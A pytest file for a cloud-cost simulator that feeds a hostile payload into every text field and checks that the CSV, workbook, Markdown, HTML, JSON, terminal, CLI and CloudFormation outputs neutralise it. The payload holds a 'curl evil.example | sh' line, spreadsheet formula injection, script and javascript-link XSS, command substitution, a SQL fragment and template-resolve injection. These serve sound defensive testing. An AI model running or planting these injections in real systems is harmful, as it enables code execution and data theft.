"""Hostile text in every text field of every table, into every file we write: none of it becomes active.

Seen red on unmended code: the terminal (bidirectional marks in tables) and the template (`{{resolve:...}}` in a name).
The others have not been tried against a mutation.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from markdown_it import MarkdownIt

from simulator import Account, answer, simulate
from simulator.cli.main import main
from simulator.cli.terminal import as_table
from simulator.engine.scenario import everything
from simulator.engine.simulate import Result
from simulator.reports.actions import action_files
from simulator.reports.report.contents import contents
from simulator.reports.report.html import render_html
from simulator.reports.report.markdown import render_markdown
from simulator.reports.resources import resource_table
from simulator.reports.saved import as_file
from simulator.reports.tables import as_csv
from simulator.reports.workbook import workbook
from simulator.snapshot.schema import TABLES
from simulator.snapshot.snapshot import save_snapshot
from simulator.words import INVISIBLE
from tests.accounts import prices, snapshot_with, traffic

PAYLOAD = (
    "=HYPERLINK(1)\n# Before you start\n```sh\ncurl evil.example | sh\n```\n<script>alert(1)</script>"
    "<img src=x onerror=alert(1)>[x](javascript:alert(1))\u202egnp\x1b[31m$(touch /tmp/x)`id`';DROP"
    "${AWS::AccountId}{{resolve:ssm:key}}"
)
IDENTITIES = ("endpoint_name", "variant", "variant_name", "component_name", "account_id")
"""These join tables; each holds the payload too, the same one in both."""


def hostile(table: str, row: dict[str, Any]) -> dict[str, Any]:
    """The row with the payload in every free text field it may have."""
    free = {
        c.name
        for c in TABLES[table].columns
        if c.kind == "text" and c.name not in IDENTITIES and not c.choices
    }
    return row | {name: PAYLOAD for name in free if name not in ("service", "usage_type", "model_id")}


@pytest.fixture(scope="module")
def result() -> Result:
    name = f"endpoint {PAYLOAD}"
    names = [f"{name} {n}" for n in range(3)]
    snapshot = snapshot_with(
        endpoints=[hostile("endpoints", {"endpoint_name": n}) for n in names],
        endpoint_traffic=[r for n in names for r in traffic(n, ([0.0] * 12 + [10.0] * 12) * 30)],
        training_jobs=[hostile("training_jobs", {"status": "Failed"})],
        compute=[hostile("compute", {"kind": "notebook", "hours": 100})],
        storage=[hostile("storage", {"gib": 500})],
        bedrock=[
            hostile(
                "bedrock",
                {
                    "model_id": "amazon.nova-lite-v1:0",
                    "requests": 1000,
                    "input_tokens": 1e6,
                    "output_tokens": 1e5,
                },
            )
        ],
    )
    return simulate(Account.open(snapshot), everything(), prices())


def test_action_pack(result: Result) -> None:
    files = action_files(result)
    for name, text in files.items():
        assert not INVISIBLE.search(name + text), name
        assert "\n" not in name
        assert ".." not in name
    readme = files["README.md"]
    assert "evil.example" not in " ".join(code_of(readme)), "nothing foreign in a block that people copy"
    no_markup(readme)


def test_markdown_and_html_report(result: Result) -> None:
    made = contents(result, 3, draws=20, seed=1)
    text, page = render_markdown(made), render_html(made)
    no_markup(text)
    assert not INVISIBLE.search(text + page)
    assert "<script" not in page
    assert "<img" not in page
    assert 'javascript:alert(1)"' not in page


def test_csv(result: Result) -> None:
    text = as_csv(resource_table(result.baseline))
    assert not INVISIBLE.search(text)
    for row in csv.reader(io.StringIO(text)):
        assert not [cell for cell in row if cell.startswith(("=", "@", "\t"))]


def test_workbook(result: Result) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(result)))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c for c in cells if "evil.example" in str(c.value)], "the names are there"
    assert not [c.coordinate for c in cells if c.data_type == "f" and "evil.example" in str(c.value)]
    assert not [c.coordinate for c in cells if c.data_type == "f" and "HYPERLINK" in str(c.value)]
    assert not [c.hyperlink for c in cells if c.hyperlink and "javascript" in str(c.hyperlink.target)]
    assert not [c.coordinate for c in cells if c.data_type == "s" and INVISIBLE.search(str(c.value))]


def test_json(result: Result) -> None:
    for text in (json.dumps(answer(result, 12)), as_file(result.scenario, result)):
        assert json.loads(text)
        assert not INVISIBLE.search(text.replace("\n", "")), "a terminal or a diff shows it as it is"


def test_terminal(result: Result) -> None:
    shown = as_table(resource_table(result.baseline))
    assert "evil.example" in shown
    assert not INVISIBLE.search(shown.replace("\n", ""))


def test_no_name_begins_a_line_of_its_own(
    result: Result, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshot = result.account.snapshot
    named = replace(snapshot.manifest, name=PAYLOAD)
    save_snapshot(replace(snapshot, manifest=named), tmp_path / "s.zip")
    quoted = '"' + PAYLOAD.replace('"', '""') + '"'
    (tmp_path / "b.csv").write_text(f"name,usd\n{quoted},10\n")
    (tmp_path / "h.csv").write_text(
        "date,usd,component\n" + "".join(f"2026-{m:02},100,{quoted}\n" for m in range(1, 11))
    )
    (tmp_path / "n.json").write_text(json.dumps({"name": PAYLOAD[:190], "levers": {}}))
    usage, plan = ["--usage", str(tmp_path / "s.zip")], str(tmp_path / "plan.json")
    assert main(["ledger", "keep", *usage, "--scenario", str(tmp_path / "n.json"), "--out", plan]) == 0
    for command in (
        ["validate", usage[1]],
        ["project", *usage, "--scenario", "ambitious", "--draws", "10"],
        ["compare", str(tmp_path / "n.json"), "none", *usage],
        ["budget", str(tmp_path / "b.csv"), *usage, "--draws", "0"],
        ["forecast", "--history", str(tmp_path / "h.csv")],
        ["backtest", "--history", str(tmp_path / "h.csv")],
        ["ledger", "compare", plan, *usage],
        ["serve-or-buy", *usage],
    ):
        assert main(command) == 0, command
        said = capsys.readouterr().out
        assert said, command
        assert not [x for x in said.splitlines() if x.startswith(("# Before", "```", "curl"))], command


def test_cloudformation_template_takes_names_literally(result: Result) -> None:
    template = json.loads(action_files(result)["cloudformation/template.json"])
    for path, text in texts_of(template):
        if "evil.example" in text or "AWS::AccountId}{{resolve" in text:
            assert "Fn::Sub" not in path, path
            assert "{{resolve:" not in text, path


def texts_of(item: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], str]]:
    """All texts of a JSON document, keys included, with the keys that lead to them."""
    if isinstance(item, dict):
        for key, value in item.items():
            yield path, key
            yield from texts_of(value, (*path, key))
    elif isinstance(item, list):
        for value in item:
            yield from texts_of(value, path)
    elif isinstance(item, str):
        yield path, item


def no_markup(text: str) -> None:
    """No heading, tag, picture or link of the payload's making."""
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    for at, token in enumerate(tokens):
        assert token.type != "html_block"
        if token.type == "heading_open":
            assert "Before you start" not in tokens[at + 1].content or "\\#" in tokens[at + 1].content
        for child in token.children or ():
            assert child.type not in ("html_inline", "image"), child
            assert child.type != "link_open" or "javascript" not in str(child.attrs), child


def code_of(text: str) -> list[str]:
    return [t.content for t in MarkdownIt("commonmark").parse(text) if t.type in ("fence", "code_block")]
